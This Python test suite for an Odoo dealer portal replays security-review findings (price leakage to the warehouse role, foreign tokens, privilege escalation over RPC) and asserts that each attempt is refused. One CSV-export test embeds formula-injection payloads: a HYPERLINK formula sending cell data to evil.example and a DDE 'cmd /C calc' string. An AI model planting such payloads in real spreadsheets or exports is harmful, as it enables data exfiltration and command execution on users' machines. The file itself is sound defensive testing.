"""Dealer roles held by the ORM and every route, not only by the dealer
pages (security review F5, F9, F10, F12, F13): each attack replayed over
HTTP or JSON-RPC the way a portal user sends it."""

import contextlib
import json

from odoo import Command, fields
from odoo.tests import JsonRpcException, new_test_user, tagged

from .common import DealerPortalHttpCommon
from .common_selfservice import DealerPortalSelfServiceHttpCommon
from .test_storefront_http import StorefrontHttpMixin


class RpcMixin:
    def _call_kw(self, model, method, args, kwargs=None):
        return self.make_jsonrpc_request(
            f"/web/dataset/call_kw/{model}/{method}",
            {"model": model, "method": method, "args": args, "kwargs": kwargs or {}},
        )

    def _assert_rpc_refused(self, model, method, args, kwargs=None, msg=None):
        with self.assertRaises(JsonRpcException, msg=msg):
            self._call_kw(model, method, args, kwargs)

    def _jsonrpc_raw(self, url, params):
        """POST a JSON-RPC call and return (http status, decoded body)."""
        res = self.url_open(
            url,
            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
            headers={"Content-Type": "application/json"},
        )
        try:
            body = res.json()
        except ValueError:
            body = {}
        return res.status_code, body


@tagged("post_install", "-at_install")
class TestWarehouseSeesNoPrices(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
    """F5: the warehouse role sees no price or amount anywhere."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.dealer_order_desk_documents = "none"
        cls.a_quote = cls._dealer_cart(cls.user_a_desk, [(cls.p_drill, 3)])
        cls.a_quote.write({"state": "sent", "website_id": False})
        cls.a_quote.message_subscribe(partner_ids=cls.user_a_desk.partner_id.ids)
        cls.attempt = cls.env["dealer.order.attempt"].create(
            {
                "order_id": cls.a_submitted.id,
                "partner_id": cls.dealer_a.id,
                "user_id": cls.user_a_desk2.id,
                "channel": "portal",
                "outcome": "approval",
                "amount_total": 1234.56,
                "currency_id": cls.currency.id,
                "issues_json": "[]",
            }
        )
        cls.agreement = cls.env["dealer.price.agreement"].search([("partner_id", "=", cls.dealer_a.id)], limit=1)

    def _amount(self, order):
        return f"{order.amount_total:,.2f}"

    def test_native_order_lists_show_no_amounts(self):
        order_amount, quote_amount = self._amount(self.a_order), self._amount(self.a_quote)
        self._login(self.user_a_desk)
        self.assertIn(order_amount, self.url_open("/my/orders").text, "the order desk still sees totals")
        self.assertIn(quote_amount, self.url_open("/my/quotes").text)
        self._login(self.user_a_ware)
        html = self.url_open("/my/orders").text
        self.assertIn(self.a_order.name, html, "the warehouse lists the orders")
        self.assertNotIn(order_amount, html)
        self.assertNotIn(">Total<", html)
        html = self.url_open("/my/quotes").text
        self.assertIn(self.a_quote.name, html)
        self.assertNotIn(quote_amount, html)

    def test_order_page_and_reports_refused(self):
        self._login(self.user_a_ware)
        for url in (
            f"/my/orders/{self.a_order.id}",
            f"/my/orders/{self.a_order.id}?report_type=pdf",
            f"/my/orders/{self.a_order.id}?report_type=html",
        ):
            res = self.url_open(url, allow_redirects=False)
            self.assertEqual(res.status_code, 303, url)
            self.assertIn("/track", res.headers["Location"], url)
        for url in (
            f"/report/pdf/sale.report_saleorder/{self.a_order.id}",
            f"/report/html/sale.report_saleorder/{self.a_order.id}",
            f"/report/pdf/account.report_invoice/{self.a_invoice.id}",
            f"/report/html/account.report_invoice/{self.a_invoice.id}",
        ):
            res = self.url_open(url, allow_redirects=False)
            self.assertNotEqual(res.status_code, 200, url)
            self.assertNotIn(self._amount(self.a_order), res.text, url)

    def test_rpc_on_orders_and_lines(self):
        self._login(self.user_a_ware)
        orders = self._call_kw("sale.order", "search_read", [[("id", "=", self.a_order.id)]], {"fields": ["name"]})
        self.assertEqual([o["name"] for o in orders], [self.a_order.name], "non-price fields stay readable")
        self._assert_rpc_refused(
            "sale.order", "search_read", [[("id", "=", self.a_order.id)]], {"fields": ["amount_total"]}
        )
        self._assert_rpc_refused("sale.order", "read", [self.a_order.ids, ["tax_totals"]])
        self._assert_rpc_refused("sale.order", "read_group", [[], ["amount_total:sum"], ["partner_id"]])
        self._assert_rpc_refused("sale.order", "search", [[("amount_total", ">", 100)]])
        # Reading "all fields" (read() without a list) leaves the amounts out.
        readable = self.env["sale.order"].with_user(self.user_a_ware).check_field_access_rights("read", None)
        self.assertIn("name", readable)
        self.assertFalse({"amount_total", "amount_untaxed", "tax_totals"} & set(readable))
        line = self.a_order.order_line[:1]
        self._assert_rpc_refused("sale.order.line", "read", [line.ids, ["price_unit"]])
        self._assert_rpc_refused("sale.order.line", "read", [line.ids, ["price_subtotal", "discount"]])
        lines = self._call_kw("sale.order.line", "read", [line.ids, ["product_uom_qty"]])
        self.assertEqual(lines[0]["product_uom_qty"], line.product_uom_qty)

    def test_rpc_on_attempts_agreements_invoices_and_credit(self):
        self._login(self.user_a_ware)
        self.assertEqual(self._call_kw("dealer.order.attempt", "search_read", [[]], {"fields": ["amount_total"]}), [])
        self._assert_rpc_refused("dealer.order.attempt", "read", [self.attempt.ids, ["amount_total"]])
        self.assertEqual(self._call_kw("dealer.price.agreement", "search_read", [[]], {"fields": ["name"]}), [])
        items = self._call_kw("product.pricelist.item", "search_read", [[]], {"fields": ["fixed_price"]})
        self.assertEqual(items, [], "no tier price rule either")
        self._assert_rpc_refused("product.product", "get_contextual_price", [self.p_drill.ids])
        self._assert_rpc_refused("product.template", "get_contextual_price", [self.p_drill.product_tmpl_id.ids])
        self.assertEqual(self._call_kw("account.move", "search_read", [[]], {"fields": ["amount_total"]}), [])
        self.assertEqual(self._call_kw("account.move.line", "search_read", [[]], {"fields": ["balance"]}), [])
        for field in ("dealer_credit_available", "dealer_credit_exposure", "credit_limit"):
            self._assert_rpc_refused("res.partner", "read", [self.dealer_a.ids, [field]], msg=field)
        readable = self.env["res.partner"].with_user(self.user_a_ware).check_field_access_rights("read", None)
        figures = [name for name in readable if name.startswith("dealer_credit_")]
        self.assertEqual(sorted(figures), ["dealer_credit_hold", "dealer_credit_hold_reason"])

    def test_order_desk_documents_follow_company_setting(self):
        self._login(self.user_a_desk)
        self.assertEqual(self._call_kw("account.move", "search_read", [[]], {"fields": ["name"]}), [])
        res = self.url_open(f"/report/pdf/account.report_invoice/{self.a_invoice.id}", allow_redirects=False)
        self.assertNotEqual(res.status_code, 200)
        self.company.dealer_order_desk_documents = "invoice"
        moves = self._call_kw("account.move", "search_read", [[("id", "=", self.a_invoice.id)]], {"fields": ["name"]})
        self.assertEqual([m["name"] for m in moves], [self.a_invoice.name])
        orders = self._call_kw(
            "sale.order", "search_read", [[("id", "=", self.a_order.id)]], {"fields": ["amount_total"]}
        )
        self.assertEqual(orders[0]["amount_total"], self.a_order.amount_total)
        attempts = self._call_kw("dealer.order.attempt", "search_read", [[]], {"fields": ["amount_total"]})
        own_attempts = self.env["dealer.order.attempt"].search([("partner_id", "=", self.dealer_a.id)])
        self.assertIn(self.attempt, own_attempts)
        self.assertEqual(sorted(a["amount_total"] for a in attempts), sorted(own_attempts.mapped("amount_total")))
        items = self._call_kw(
            "product.pricelist.item", "search_read", [[("pricelist_id", "=", self.pl_gold.id)]], {"fields": ["id"]}
        )
        self.assertTrue(items, "the order desk still reads its tier's price rules")
        self.assertTrue(self._call_kw("product.product", "get_contextual_price", [self.p_drill.ids]))

    def test_finance_and_internal_users_unaffected(self):
        self._login(self.user_a_fin)
        moves = self._call_kw(
            "account.move", "search_read", [[("id", "=", self.a_invoice.id)]], {"fields": ["amount_total"]}
        )
        self.assertEqual(moves[0]["amount_total"], self.a_invoice.amount_total)
        self.assertIn(self._amount(self.a_order), self.url_open("/my/orders").text)
        lines = self._call_kw("sale.order.line", "read", [self.a_order.order_line[:1].ids, ["price_unit"]])
        self.assertTrue(lines[0]["price_unit"])
        new_test_user(
            self.env,
            login="dc_roles_salesman",
            password="dc_roles_salesman",
            groups="sales_team.group_sale_salesman_all_leads",
        )
        self.authenticate("dc_roles_salesman", "dc_roles_salesman")
        orders = self._call_kw(
            "sale.order", "search_read", [[("id", "=", self.a_order.id)]], {"fields": ["amount_total"]}
        )
        self.assertEqual(orders[0]["amount_total"], self.a_order.amount_total)
        partner = self._call_kw("res.partner", "read", [self.dealer_a.ids, ["dealer_credit_exposure"]])
        self.assertIn("dealer_credit_exposure", partner[0])

    def test_chatter_hides_tracked_totals(self):
        tracking = self.env["mail.tracking.value"]._create_tracking_values(
            111.11,
            98765.43,
            "amount_total",
            {"string": "Total", "type": "monetary", "currency_field": "currency_id"},
            self.a_order,
        )
        self.env["mail.message"].create(
            {
                "model": "sale.order",
                "res_id": self.a_order.id,
                "body": "Total updated",
                "message_type": "comment",
                "subtype_id": self.env.ref("mail.mt_comment").id,
                "tracking_value_ids": [Command.create(tracking)],
            }
        )
        params = {"thread_model": "sale.order", "thread_id": self.a_order.id}
        self._login(self.user_a_desk)
        self.assertIn("98765.43", json.dumps(self._json("/mail/thread/messages", params)))
        self._login(self.user_a_ware)
        result = json.dumps(self._json("/mail/thread/messages", params))
        self.assertIn("Total updated", result)
        self.assertNotIn("98765.43", result)

    def test_combination_info_has_no_price(self):
        params = {
            "product_template_id": self.p_drill.product_tmpl_id.id,
            "product_id": self.p_drill.id,
            "combination": [],
            "add_qty": 1,
        }
        self._login(self.user_a_desk)
        info = self._json("/website_sale/get_combination_info", params)
        self.assertTrue(info["price"], "the order desk gets its price")
        self._login(self.user_a_ware)
        info = self._json("/website_sale/get_combination_info", params)
        self.assertFalse(info["price"])
        self.assertFalse(info["list_price"])
        # A product outside A's assortment: no price even for the order desk.
        self._login(self.user_a_desk)
        info = self._json(
            "/website_sale/get_combination_info",
            dict(params, product_template_id=self.p_secret.product_tmpl_id.id, product_id=self.p_secret.id),
        )
        self.assertFalse(info["price"])

    def test_configurators_and_autocomplete(self):
        today = str(_today())
        values = {
            "product_template_id": self.p_drill.product_tmpl_id.id,
            "quantity": 1,
            "currency_id": self.currency.id,
            "so_date": today,
        }
        combo = {"product_tmpl_id": self.p_drill.product_tmpl_id.id, "quantity": 1, "date": today}
        autocomplete = {
            "search_type": "products",
            "term": "DC Cordless",
            "order": "name asc",
            "limit": 5,
            "max_nb_chars": 100,
            "options": {
                "displayImage": False,
                "displayDescription": False,
                "displayExtraLink": False,
                "displayDetail": True,
            },
        }
        self._login(self.user_a_desk)
        results = self._json("/website/snippet/autocomplete", autocomplete)["results"]
        self.assertTrue([r for r in results if "150.00" in (r.get("detail") or "")], "the order desk sees its price")
        self.assertTrue(self._json("/website_sale/product_configurator/get_values", values)["products"])
        with self.assertRaises(JsonRpcException, msg="outside the assortment"):
            self._json(
                "/website_sale/product_configurator/get_values",
                dict(values, product_template_id=self.p_secret.product_tmpl_id.id),
            )
        self._login(self.user_a_ware)
        with self.assertRaises(JsonRpcException):
            self._json("/website_sale/product_configurator/get_values", values)
        with self.assertRaises(JsonRpcException):
            self._json("/website_sale/combo_configurator/get_price", combo)
        results = self._json("/website/snippet/autocomplete", autocomplete)["results"]
        self.assertTrue(results, "the warehouse still finds the product")
        self.assertFalse([r for r in results if r.get("detail")], "no price in the search suggestions")


@tagged("post_install", "-at_install")
class TestForeignTokens(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
    """F10: another dealer's cart or order token never brings a dealer user
    into that account: cart revival and the portal chatter."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.b_cart = cls._dealer_cart(cls.user_b_desk, [(cls.p_saw, 2)])
        cls.b_cart_token = cls.b_cart._portal_ensure_token()
        cls.b_order_token = cls.b_order._portal_ensure_token()

    def test_revive_squash_keeps_the_other_cart(self):
        self._login(self.user_a_desk)
        self.url_open(f"/shop/cart?access_token={self.b_cart_token}&revive=squash", allow_redirects=False)
        self.b_cart.invalidate_recordset()
        self.assertEqual(self.b_cart.partner_id, self.user_b_desk.partner_id)
        self.assertNotEqual(self._cart(), self.b_cart)
        self.assertIn("belongs to another account", self.url_open("/shop/cart").text)

    def test_revive_merge_keeps_the_other_cart(self):
        self._login(self.user_a_desk)
        self._add(self.p_drill, 1)
        a_cart = self._cart()
        self.url_open(f"/shop/cart?access_token={self.b_cart_token}&revive=merge")
        self.b_cart.invalidate_recordset()
        self.assertEqual(self.b_cart.state, "draft", "the other dealer's cart is not cancelled")
        self.assertEqual(self.b_cart.order_line.product_id, self.p_saw)
        self.assertEqual(a_cart.order_line.product_id, self.p_drill)

    def test_revive_own_company_cart_still_works(self):
        a_cart = self._dealer_cart(self.user_a_desk2, [(self.p_drill, 1)])
        token = a_cart._portal_ensure_token()
        self._login(self.user_a_desk)
        self.url_open(f"/shop/cart?access_token={token}&revive=squash")
        self.assertNotIn("belongs to another account", self.url_open("/shop/cart").text)

    def test_chatter_with_other_dealer_token_refused(self):
        self.b_order.message_post(
            body="Beta internal note for the customer", message_type="comment", subtype_xmlid="mail.mt_comment"
        )
        self._login(self.user_a_desk)
        status, body = self._jsonrpc_raw(
            "/mail/chatter_fetch",
            {"thread_model": "sale.order", "thread_id": self.b_order.id, "token": self.b_order_token},
        )
        self.assertTrue(status >= 400 or "error" in body)
        self.assertNotIn("Beta internal note", json.dumps(body))
        status, body = self._jsonrpc_raw(
            "/portal/chatter_init",
            {"thread_model": "sale.order", "thread_id": self.b_order.id, "token": self.b_order_token},
        )
        self.assertNotIn('"hasReadAccess": true', json.dumps(body))
        count = len(self.b_order.message_ids)
        status, body = self._jsonrpc_raw(
            "/mail/message/post",
            {
                "thread_model": "sale.order",
                "thread_id": self.b_order.id,
                "post_data": {"body": "spoofed", "message_type": "comment"},
                "token": self.b_order_token,
            },
        )
        self.assertTrue(status >= 400 or "error" in body)
        self.b_order.invalidate_recordset()
        self.assertEqual(len(self.b_order.message_ids), count)
        # The owner's token still works for the owner's colleagues.
        self._login(self.user_b_fin)
        status, body = self._jsonrpc_raw(
            "/mail/chatter_fetch",
            {"thread_model": "sale.order", "thread_id": self.b_order.id, "token": self.b_order_token},
        )
        self.assertIn("Beta internal note", json.dumps(body))


@tagged("post_install", "-at_install")
class TestHistoryExportAndBadInput(StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
    """F12: formula injection in the CSV export; F13: non-numeric pages and
    verify tokens."""

    def test_export_escapes_formulas(self):
        self.a_order.client_order_ref = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        self.user_a_desk.partner_id.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        self._login(self.user_a_admin)
        res = self.url_open("/my/dealer/orders/export")
        self.assertEqual(res.status_code, 200)
        text = res.content.decode("utf-8-sig")
        self.assertIn("'=HYPERLINK(", text)
        self.assertNotIn(',"=HYPERLINK', text)
        self.assertNotIn(",=HYPERLINK", text)
        self.assertIn("'@SUM(1+1)", text)
        self.assertIn("PO-ALPHA-200", text, "ordinary references are unchanged")

    def test_non_numeric_page_is_a_bad_request(self):
        self._login(self.user_a_admin)
        for url in ("/my/dealer/orders?page=x", "/my/documents?page=x"):
            res = self.url_open(url, allow_redirects=False)
            self.assertEqual(res.status_code, 400, url)
        self.assertEqual(self.url_open("/my/dealer/orders?page=2").status_code, 200)


@tagged("post_install", "-at_install")
class TestDealerAdminLimits(StorefrontHttpMixin, DealerPortalHttpCommon):
    """F13: what a dealer administrator may not do with its users."""

    def test_cannot_reactivate_user_archived_by_manufacturer(self):
        self.user_a_ware.with_user(self.env.ref("base.user_admin")).action_archive()
        self._login(self.user_a_admin)
        self._post(f"/my/dealer/users/{self.user_a_ware.id}/update", {"action": "activate"})
        self.user_a_ware.invalidate_recordset()
        self.assertFalse(self.user_a_ware.active)
        html = self.url_open("/my/dealer/users").text
        self.assertIn("deactivated by the manufacturer", html)
        self.assertIn("o_dealer_user_archived_by_maker", html, "no Reactivate button for that user")
        # A user the dealer admin archived itself comes back.
        self._post(f"/my/dealer/users/{self.user_a_fin.id}/update", {"action": "deactivate"})
        self.user_a_fin.invalidate_recordset()
        self.assertFalse(self.user_a_fin.active)
        self._post(f"/my/dealer/users/{self.user_a_fin.id}/update", {"action": "activate"})
        self.user_a_fin.invalidate_recordset()
        self.assertTrue(self.user_a_fin.active)

    def test_invite_refuses_foreign_identities(self):
        staff = new_test_user(
            self.env, login="dc_staff", email="maker.staff@maker.example.com", groups="sales_team.group_sale_salesman"
        )
        self.env["res.partner"].create(
            {"name": "Beta buyer", "parent_id": self.dealer_b.id, "email": "buyer@beta.example.com"}
        )
        self._login(self.user_a_admin)
        for email in (
            staff.email,  # an internal user's address
            "dc_staff",  # an internal login (not an address: refused anyway)
            "buyer@beta.example.com",  # another dealer's contact
            "ORDERS@beta.example.com",  # another dealer's company address
            self.user_b_desk.login,  # an existing login
        ):
            self._post("/my/dealer/users/invite", {"name": "Intruder", "email": email, "roles": ["order_desk"]})
        self.assertFalse(self.env["res.partner"].search([("name", "=", "Intruder")]))
        self._post(
            "/my/dealer/users/invite",
            {"name": "Real colleague", "email": "colleague@alpha.example.com", "roles": ["order_desk"]},
        )
        self.assertTrue(self.env["res.users"].search([("login", "=", "colleague@alpha.example.com")]))


@tagged("post_install", "-at_install")
class TestOneDealerPredicate(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
    """F13: one definition of "is a dealer" for ordering and roles: the
    company is flagged a dealer or has a tier."""

    def test_tier_without_flag_gets_the_roles(self):
        self.dealer_a.is_dealer = False
        self.assertTrue(self.user_a_ware._is_dealer_portal_user())
        self._login(self.user_a_ware)
        self.assertNotIn(f"{self.a_order.amount_total:,.2f}", self.url_open("/my/orders").text)
        self.assertEqual(self._call_kw("account.move", "search_read", [[]], {"fields": ["name"]}), [])
        res = self.url_open("/shop", allow_redirects=False)
        self.assertEqual(res.status_code, 303)

    def test_flag_without_tier_buys_nothing(self):
        self.dealer_a.dealer_tier_id = False
        self.assertTrue(self.user_a_desk._dealer_commercial_partner())
        self._login(self.user_a_desk)
        # Refused with an error or silently ignored: either way, no line.
        with contextlib.suppress(JsonRpcException):
            self._add(self.p_drill, 1)
        self.assertFalse(self._cart().order_line, "no tier, no catalog: nothing can be added")


@tagged("post_install", "-at_install")
class TestDealerConfigurationRights(RpcMixin, StorefrontHttpMixin, DealerPortalHttpCommon):
    """F9: a salesperson with contact rights cannot configure a dealer."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.salesman = new_test_user(
            cls.env,
            login="dc_roles_sales",
            password="dc_roles_sales",
            groups="sales_team.group_sale_salesman,base.group_partner_manager",
        )

    def test_salesperson_cannot_make_a_dealer_over_rpc(self):
        self.authenticate("dc_roles_sales", "dc_roles_sales")
        self._assert_rpc_refused(
            "res.partner",
            "create",
            [
                {
                    "name": "Rogue Gold",
                    "parent_id": self.dealer_b.id,
                    "is_company": True,
                    "dealer_tier_id": self.tier_gold.id,
                }
            ],
        )
        self.assertFalse(self.env["res.partner"].search([("name", "=", "Rogue Gold")]))
        contact = self.user_b_desk.partner_id
        self._assert_rpc_refused(
            "res.partner", "write", [contact.ids, {"is_company": True, "dealer_tier_id": self.tier_gold.id}]
        )
        self._assert_rpc_refused("res.partner", "write", [contact.ids, {"is_company": True}])
        contact.invalidate_recordset()
        self.assertFalse(contact.is_company)
        self.assertEqual(contact.commercial_partner_id, self.dealer_b)
        admin_group = self.env.ref("dealer_portal.dealer_portal_group_admin")
        self._assert_rpc_refused(
            "res.partner", "write", [contact.ids, {"dealer_role_group_ids": [Command.link(admin_group.id)]}]
        )
        self.assertNotIn("admin", self.user_b_desk._dealer_roles())
        # Ordinary contact work goes on.
        new_id = self._call_kw("res.partner", "create", [{"name": "Beta clerk", "parent_id": self.dealer_b.id}])
        self.assertEqual(self.env["res.partner"].browse(new_id).dealer_tier_id, self.tier_silver)
        self._call_kw("res.partner", "write", [[new_id], {"phone": "+32 9 000 00 00"}])

    def test_sales_manager_sets_roles(self):
        new_test_user(self.env, login="dc_roles_mgr", password="dc_roles_mgr", groups="sales_team.group_sale_manager")
        self.authenticate("dc_roles_mgr", "dc_roles_mgr")
        finance = self.env.ref("dealer_portal.dealer_portal_group_finance")
        self._call_kw(
            "res.partner",
            "write",
            [self.user_b_ware.partner_id.ids, {"dealer_role_group_ids": [Command.link(finance.id)]}],
        )
        self.assertIn("finance", self.user_b_ware._dealer_roles())


def _today():
    return fields.Date.today()


@tagged("post_install", "-at_install")
class TestWarehouseSeesNoReasonAmounts(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
    """Red team: the reasons an order waits for approval, or was refused,
    quote its total, the threshold and the dealer's credit; the warehouse
    role, which sees no amounts, reads none of them."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.approver = new_test_user(cls.env, login="dc_rt_reason_approver", groups="sales_team.group_sale_manager")
        cls.env["dealer.approval.rule"].create(
            {"name": "Big orders", "condition": "amount_above", "amount": 100.0, "user_ids": [(6, 0, cls.approver.ids)]}
        )
        cls.pending = cls._dealer_cart(cls.user_a_desk, [(cls.p_saw, 1)])
        result = cls.pending.with_user(cls.user_a_desk).sudo()._dealer_portal_submit()
        assert result["outcome"] == "approval", result
        cls.threshold = "100.00"
        cls.total = f"{cls.pending.amount_total:,.2f}"

    def test_approval_reason_hides_amounts_from_the_warehouse(self):
        self.assertIn(self.total, self.pending.dealer_approval_reason, "the reason quotes the total")
        self.assertIn(self.total, self.pending.dealer_approval_summary, "so does the summary of the approvals")
        self._login(self.user_a_ware)
        for field in ("dealer_approval_reason", "dealer_rejection_reason", "dealer_approval_summary"):
            self._assert_rpc_refused("sale.order", "read", [self.pending.ids, [field]], msg=field)
        html = self.url_open(f"/my/orders/{self.pending.id}/track").text
        self.assertIn(self.pending.name, html)
        self.assertNotIn(self.total, html)
        self.assertNotIn(self.threshold, html)
        # The order desk still reads why its order waits.
        self._login(self.user_a_desk)
        self.assertIn(self.total, self.url_open(f"/my/orders/{self.pending.id}/track").text)

    def test_submission_result_page_shows_the_warehouse_no_amounts(self):
        url = f"/shop/dealer/submitted/{self.pending.id}"
        self._login(self.user_a_desk)
        self.assertIn(self.total, self.url_open(url).text)
        self._login(self.user_a_ware)
        res = self.url_open(url)
        self.assertNotIn(self.total, res.text)
        self.assertNotIn(self.threshold, res.text)

    def test_chatter_hides_approved_special_prices_from_the_warehouse(self):
        self.env["dealer.approval.rule"].create(
            {"name": "Special prices", "condition": "nonstandard_price", "user_ids": [(6, 0, self.approver.ids)]}
        )
        cart = self._dealer_cart(self.user_a_desk, [(self.p_drill, 1)])
        cart_sudo = cart.with_user(self.user_a_desk).sudo()
        cart_sudo._dealer_request_special_price(cart.order_line.id, "131.17", "Competitor quote 128.40")
        self.assertEqual(cart_sudo._dealer_portal_submit()["outcome"], "approval")
        cart.with_user(self.approver).action_dealer_approve()
        self.assertEqual(cart.state, "sale")
        params = {"thread_model": "sale.order", "thread_id": cart.id}
        self._login(self.user_a_desk)
        self.assertIn("131.17", json.dumps(self._json("/mail/thread/messages", params)))
        self._login(self.user_a_ware)
        self.assertNotIn("131.17", json.dumps(self._json("/mail/thread/messages", params)))
        # Nor the reason the desk gave, which quotes the competitor's price.
        self._assert_rpc_refused("sale.order.line", "read", [cart.order_line.ids, ["dealer_price_request_reason"]])

    def test_chatter_hides_rejection_reasons_from_the_warehouse(self):
        self.pending.with_user(self.approver)._dealer_reject_approval(f"Total {self.total} is too much this month")
        params = {"thread_model": "sale.order", "thread_id": self.pending.id}
        self._login(self.user_a_desk)
        self.assertIn(f"Total {self.total}", json.dumps(self._json("/mail/thread/messages", params)))
        self._login(self.user_a_ware)
        self.assertNotIn(f"Total {self.total}", json.dumps(self._json("/mail/thread/messages", params)))
